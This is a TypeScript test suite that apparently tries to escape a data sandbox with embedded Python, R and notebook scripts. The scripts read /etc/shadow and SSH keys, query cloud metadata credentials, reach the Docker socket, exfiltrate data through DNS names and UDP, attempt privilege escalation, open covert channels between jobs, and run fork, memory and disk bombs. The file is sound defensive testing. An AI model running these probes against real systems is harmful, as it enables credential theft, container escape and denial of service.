/** Scripts that reach for what is outside of their sandbox: network, host, other jobs, the platform itself. */
import { type Attack, never, reached, targetIncome } from './attack.ts'

export const prelude = `import csv, json, os
root = os.environ["DATA_ROOT"] + "/catalogs/attack_data/"
rows = list(csv.DictReader(open(root + "people.csv")))
def out(o): json.dump(o, open(os.environ["CLOISTER_OUTPUT"] + "/result.json", "w"))
target = next((r for r in rows if r["subject_id"] == "P017"), None)
`
/** Reports 1 when `body` gets through without an exception. */
const attempt = (body: string): string => `${prelude}
ok = 0
try:
${body
  .split('\n')
  .map((l) => `    ${l}`)
  .join('\n')}
    ok = 1
except BaseException:
    ok = 0
out({"reached": ok})
`
/** Names of all files that can be seen, but those of the system's own packages. */
const walk =
  'names = {n for top in set(os.listdir("/")) - {"usr", "proc", "sys"} for _, folders, files in os.walk("/" + top) for n in folders + files}'
/** Code in another process; `ok` when it ends with 0. */
const inChild = (code: string): string =>
  `pid = os.fork()\nif pid == 0:\n    try:\n        ${code}\n        os._exit(0)\n    except BaseException: os._exit(1)\nassert os.waitpid(pid, 0)[1] == 0`
const python = (name: string, about: string, body: string): Attack => ({
  name,
  about,
  language: 'python',
  code: [attempt(body)],
  leaked: reached,
})
const reach = (name: string, about: string, body: string): Attack => ({
  name,
  about,
  language: 'r',
  leaked: reached,
  code: [
    `ok <- tryCatch({ ${body}; 1 }, error = function(e) 0, warning = function(w) 0)\nwriteLines(sprintf('{"reached": %d}', ok), file.path(Sys.getenv("CLOISTER_OUTPUT"), "result.json"))`,
  ],
})

/** `port` is the listener outside that counts connections. */
export const reaching = (port: number): Attack[] => [
  python(
    'tcp-loopback',
    'a listener on the host',
    `import socket\nsocket.create_connection(("127.0.0.1", ${port}), 2)`,
  ),
  python(
    'tcp-host-name',
    'the host by name',
    `import socket\nsocket.create_connection((socket.gethostname(), ${port}), 2)`,
  ),
  python(
    'udp',
    'a datagram with a note in it',
    `import socket\ns = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\ns.sendto(rows[0]["note"].encode(), ("127.0.0.1", ${port}))`,
  ),
  python('dns', 'a name with a value in it', 'import socket\nsocket.getaddrinfo(rows[0]["note"] + ".example.org", 80)'),
  python(
    'metadata-v4',
    'the instance metadata address',
    'import urllib.request\nurllib.request.urlopen("http://169.254.169.254/latest/meta-data/", timeout=2).read()',
  ),
  python(
    'metadata-v6',
    'the metadata address of IPv6',
    'import urllib.request\nurllib.request.urlopen("http://[fd00:ec2::254]/latest/meta-data/", timeout=2).read()',
  ),
  python(
    'task-credentials',
    'the credentials of the container',
    'import urllib.request\nurllib.request.urlopen("http://169.254.170.2" + os.environ.get("AWS_CONTAINER_CREDENTIALS_RELATIVE_URI", "/v2/credentials"), timeout=2).read()',
  ),
  python(
    'unix-socket-docker',
    'the engine that runs containers',
    'import socket\ns = socket.socket(socket.AF_UNIX)\ns.connect("/var/run/docker.sock")',
  ),
  python(
    'abstract-socket',
    'an abstract Unix socket to a helper outside',
    'import socket\ns = socket.socket(socket.AF_UNIX)\ns.connect("\\0cloister")',
  ),
  python(
    'raw-socket',
    'packets of its own making',
    'import socket\nsocket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP)',
  ),
  python(
    'netlink',
    'the kernel’s view of the network',
    'import socket\ns = socket.socket(16, socket.SOCK_RAW, 0)\ns.bind((0, 0))',
  ),
  python(
    'vsock',
    'the hypervisor',
    `import socket\ns = socket.socket(40, socket.SOCK_STREAM)\ns.settimeout(2)\ns.connect((2, ${port}))`,
  ),
  python(
    'curl',
    'a program instead of a library',
    `import subprocess\nsubprocess.run(["curl", "-m", "2", "http://127.0.0.1:${port}/"], check=True)`,
  ),
  python(
    'bash-dev-tcp',
    'the shell’s own network',
    `import subprocess\nsubprocess.run(["bash", "-c", "echo x > /dev/tcp/127.0.0.1/${port}"], check=True)`,
  ),
  python('shadow', 'passwords of the host', 'open("/etc/shadow").read()'),
  python(
    'ssh-keys',
    'keys of the person at the host',
    'import glob\nassert glob.glob("/root/.ssh/*") + glob.glob("/home/*/.ssh/*")',
  ),
  python('host-home', 'home folders of the host', 'assert os.listdir("/home") or os.listdir("/root")'),
  python('keyring', 'the platform’s keys', `${walk}\nassert "keyring.json" in names`),
  python(
    'table-files',
    'the platform’s store',
    `${walk}\nassert names & {"secrets.json", ".cloister", "cloister.log"}`,
  ),
  python(
    'other-jobs',
    'folders of other jobs',
    'others = [d for d in os.listdir("/tmp") if "job" in d or "cloister" in d]\nassert others',
  ),
  python(
    'proc-environ',
    'the environment of other processes',
    'import glob\nmine = os.getpid()\nseen = 0\nfor p in glob.glob("/proc/[0-9]*/environ"):\n    try:\n        text = open(p, "rb").read()\n    except OSError:\n        continue\n    if b"AWS" in text or b"MANIFEST" in text or b"http" in text: seen += 1\nassert seen',
  ),
  python(
    'parent-environment',
    'secrets in its own environment',
    'assert any(k.startswith("AWS") or "MANIFEST" in k or "SECRET" in k or "TOKEN" in k for k in os.environ)',
  ),
  python('parent-memory', 'the memory of whoever started it', 'open("/proc/%d/mem" % os.getppid(), "rb").read(1)'),
  python('proc-root', 'the host’s files through another process', 'assert os.listdir("/proc/1/root/root")'),
  python(
    'ptrace',
    'control over another process',
    'import ctypes\nlibc = ctypes.CDLL(None, use_errno=True)\nassert libc.ptrace(16, 1, 0, 0) == 0',
  ),
  python(
    'signal-parent',
    'ending the runner',
    'import signal\nassert os.getppid() > 1\nos.kill(os.getppid(), signal.SIGKILL)',
  ),
  python(
    'mount',
    'mounting the host’s disk',
    'import ctypes\nlibc = ctypes.CDLL(None, use_errno=True)\nassert libc.mount(b"none", b"/tmp", b"tmpfs", 0, None) == 0',
  ),
  python(
    'user-namespace',
    'root of a namespace of its own',
    'import ctypes\nlibc = ctypes.CDLL(None, use_errno=True)\nassert libc.unshare(0x10000000) == 0',
  ),
  python('chroot-escape', 'out of a root of its own', 'os.chroot("/tmp")'),
  python('setuid', 'another user', 'os.setuid(0)'),
  python(
    'bpf',
    'a program in the kernel',
    'import ctypes\nlibc = ctypes.CDLL(None, use_errno=True)\nassert libc.syscall(321, 0, 0, 0) >= 0',
  ),
  python(
    'io-uring',
    'system calls that the filter might not see',
    'import ctypes\nlibc = ctypes.CDLL(None, use_errno=True)\nbuf = ctypes.create_string_buffer(120)\nassert libc.syscall(425, 8, buf) >= 0',
  ),
  python(
    'keyctl',
    'keys of the kernel',
    'import ctypes\nlibc = ctypes.CDLL(None, use_errno=True)\nassert libc.syscall(250, 0, -3, 1) >= 0',
  ),
  python('sysctl', 'settings of the kernel', 'open("/proc/sys/kernel/core_pattern", "w").write("|/tmp/x")'),
  python('device', 'the disk itself', 'os.open("/dev/vda", os.O_RDONLY)'),
  python('write-data', 'changing the data for the next job', 'open(root + "people.csv", "a").write("x")'),
  python(
    'write-system',
    'leaving something behind',
    'open("/usr/lib/python3/dist-packages/cloister_was_here.py", "w").write("x")',
  ),
  python(
    'setuid-program',
    'a program that runs as root',
    'import subprocess\nassert subprocess.run(["su", "-c", "id"], input=b"", timeout=3, capture_output=True).returncode == 0',
  ),
  python('write-runner', 'changing the runner', 'import glob\nf = glob.glob("/job/*.py")[0]\nopen(f, "w").write("x")'),
  // What two runs of one job could tell each other by: the gate compares runs that know a person with one that does
  // not.
  python(
    'file-lock',
    'a lock on a system file, felt by another run',
    `import fcntl\nf = open("/usr/bin/env")\nfcntl.flock(f, fcntl.LOCK_EX)\n${inChild('g = open("/usr/bin/env")\n        try: fcntl.flock(g, fcntl.LOCK_EX | fcntl.LOCK_NB)\n        except BlockingIOError: os._exit(0)\n        os._exit(1)')}`,
  ),
  python(
    'record-lock',
    'a lock on a few bytes, asked for by another run',
    `import fcntl, struct\nf = open("/usr/bin/env")\nfcntl.lockf(f, fcntl.LOCK_SH, 7, 17)\n${inChild('g = open("/usr/bin/env")\n        held = fcntl.fcntl(g, fcntl.F_GETLK, struct.pack("hhqqi4x", fcntl.F_WRLCK, 0, 0, 0, 0))\n        os._exit(0 if struct.unpack("hhqqi4x", held)[2] == 17 else 1)')}`,
  ),
  python(
    'inotify',
    'who opens which file',
    'import ctypes\nlibc = ctypes.CDLL(None, use_errno=True)\nfd = libc.inotify_init1(0)\nassert fd >= 0 and libc.inotify_add_watch(fd, b"/usr/lib", 0x20) >= 0',
  ),
  python(
    'page-cache',
    'which pages of a file another run has read',
    'f = os.open("/usr/bin/env", os.O_RDONLY)\nos.preadv(f, [bytearray(1)], 4096, os.RWF_NOWAIT)',
  ),
  python(
    'page-cache-evict',
    'making the system forget a file',
    'f = os.open("/usr/bin/env", os.O_RDONLY)\nos.posix_fadvise(f, 0, 0, os.POSIX_FADV_DONTNEED)',
  ),
  python(
    'mincore',
    'the pages of a mapped file',
    'import ctypes, mmap\nlibc = ctypes.CDLL(None, use_errno=True)\nlibc.mmap.restype = ctypes.c_void_p\nf = os.open("/usr/bin/env", os.O_RDONLY)\nat = libc.mmap(None, 4096, 1, 1, f, ctypes.c_long(0))\nassert libc.mincore(ctypes.c_void_p(at), 4096, ctypes.create_string_buffer(1)) == 0',
  ),
  python(
    'process-counter',
    'how many processes there have been',
    'assert [l for l in open("/proc/stat") if l.startswith("processes")]',
  ),
  python('load-average', 'how busy the machine is', 'assert open("/proc/loadavg").read()'),
  python(
    'disk-counters',
    'what has been read and written',
    'assert open("/proc/diskstats").read() or open("/proc/vmstat").read()',
  ),
  python(
    'kernel-state',
    'settings and counters of the kernel',
    'assert open("/proc/sys/fs/inode-nr").read() or open("/proc/sys/kernel/random/boot_id").read()',
  ),
  python('held-locks', 'all locks of the machine', 'assert open("/proc/locks").read()'),
  python('control-groups', 'limits and counters of the machine', 'assert os.listdir("/sys/fs/cgroup")'),
  python(
    'access-times',
    'when somebody read a file of the data',
    'before = os.stat(root + "people.csv").st_atime_ns\nopen(root + "people.csv").read()\nassert os.stat(root + "people.csv").st_atime_ns != before',
  ),
  {
    name: 'between-runs',
    about: 'a run that knows the target tells the one that does not',
    language: 'python',
    leaked: targetIncome,
    code: [
      `${prelude}
import time
places = [d for d in ("/tmp", "/dev/shm", "/var/tmp", "/run", "/run/lock", "/output", os.getcwd(), root, "/usr/share", "/cloister", "/job", "/dev/mqueue") if os.path.isdir(d)]
value = target["income"] if target else None
for _ in range(20):
    for d in places:
        try:
            if target: open(d + "/told", "w").write(value)
            elif value is None: value = open(d + "/told").read()
        except OSError: pass
    time.sleep(0.05)
out({"mean_income": float(value or 0)})`,
    ],
  },
  {
    name: 'left-behind',
    about: 'a file of one job in the next',
    language: 'python',
    leaked: reached,
    code: [
      `${prelude}\nfor d in ("/tmp", "/dev/shm", "/var/tmp", "/run", os.getcwd()):\n    try:\n        open(d + "/left-by-a-job", "w").write(target["income"] if target else "0")\n    except OSError:\n        pass\nout({"wrote": 0})`,
      attempt(
        'found = [d for d in ("/tmp", "/dev/shm", "/var/tmp", "/run") if os.path.exists(d + "/left-by-a-job")]\nassert found',
      ),
    ],
  },
  {
    name: 'shared-memory',
    about: 'System V memory that outlives a job',
    language: 'python',
    leaked: reached,
    code: [
      `${prelude}\nimport ctypes\nlibc = ctypes.CDLL(None)\nlibc.shmget(0x5eed, 4096, 0o1666)\nout({"made": 0})`,
      attempt('import ctypes\nlibc = ctypes.CDLL(None)\nassert libc.shmget(0x5eed, 0, 0o666) >= 0'),
    ],
  },
  {
    name: 'daemon',
    about: 'a process that stays after its job',
    language: 'python',
    leaked: reached,
    code: [
      `${prelude}\nimport time\nif os.fork() == 0:\n    os.setsid()\n    if os.fork() == 0:\n        import socket\n        for i in range(20):\n            time.sleep(1)\n            try: socket.create_connection(("127.0.0.1", ${port}), 1)\n            except OSError: pass\n    os._exit(0)\nout({"started": 0})`,
    ],
  },
  reach(
    'r-socket',
    'R’s own sockets',
    `con <- socketConnection("127.0.0.1", ${port}, open = "w", timeout = 2); close(con)`,
  ),
  reach('r-download', 'R’s download', `download.file("http://127.0.0.1:${port}/", tempfile(), quiet = TRUE)`),
  reach('r-system', 'a program from R', `stopifnot(system("curl -m 2 http://127.0.0.1:${port}/") == 0)`),
  reach('r-shadow', 'passwords of the host from R', 'readLines("/etc/shadow")'),
  reach(
    'r-install',
    'packages of its own',
    'install.packages("jsonlite", repos = "http://127.0.0.1", quiet = TRUE); stopifnot("jsonlite" %in% rownames(installed.packages()))',
  ),
  {
    name: 'notebook-shell',
    about: 'a shell line in a notebook',
    language: 'notebook',
    leaked: reached,
    code: [
      JSON.stringify({
        nbformat: 4,
        nbformat_minor: 5,
        metadata: { kernelspec: { name: 'python3' } },
        cells: [
          {
            cell_type: 'code',
            metadata: {},
            outputs: [],
            execution_count: null,
            source: [`!curl -m 2 http://127.0.0.1:${port}/ && echo '{"reached": 1}' > $CLOISTER_OUTPUT/result.json\n`],
          },
        ],
      }),
    ],
  },
  {
    name: 'fork-bomb',
    about: 'processes without end',
    language: 'python',
    leaked: never,
    code: [`${prelude}\nwhile True:\n    try: os.fork()\n    except OSError: pass`],
  },
  {
    name: 'memory-bomb',
    about: 'memory without end',
    language: 'python',
    leaked: never,
    code: [`${prelude}\nx = []\nwhile True: x.append(bytearray(64 * 1024 * 1024))`],
  },
  {
    name: 'thread-bomb',
    about: 'threads without end',
    language: 'python',
    leaked: never,
    code: [
      `${prelude}\nimport threading, time\nwhile True:\n    try: threading.Thread(target=time.sleep, args=(60,)).start()\n    except RuntimeError: pass`,
    ],
    extra: { limits: { seconds: 6 } },
  },
  {
    name: 'endless',
    about: 'time without end',
    language: 'python',
    leaked: never,
    code: [`${prelude}\nwhile True: pass`],
    extra: { limits: { seconds: 4 } },
  },
  {
    name: 'ignores-signals',
    about: 'a loop that ignores every signal',
    language: 'python',
    leaked: never,
    code: [
      `${prelude}\nimport signal\nfor s in range(1, 60):\n    try: signal.signal(s, signal.SIG_IGN)\n    except (OSError, ValueError): pass\nwhile True: pass`,
    ],
    extra: { limits: { seconds: 4 } },
  },
  {
    name: 'disk-bomb',
    about: 'a full disk',
    language: 'python',
    leaked: never,
    code: [
      `${prelude}\nwith open(os.environ["CLOISTER_OUTPUT"] + "/x.csv", "wb") as f:\n    while True: f.write(b"x" * 1048576)`,
    ],
  },
  {
    name: 'sparse-output',
    about: 'a file that says it has a terabyte',
    language: 'python',
    leaked: never,
    code: [`${prelude}\nf = open(os.environ["CLOISTER_OUTPUT"] + "/x.csv", "wb")\nf.truncate(1 << 40)`],
  },
  {
    name: 'many-outputs',
    about: 'a million files',
    language: 'python',
    leaked: never,
    code: [
      `${prelude}\nfor i in range(200000):\n    try: open(os.environ["CLOISTER_OUTPUT"] + "/%d.csv" % i, "w").close()\n    except OSError: break`,
    ],
  },
]
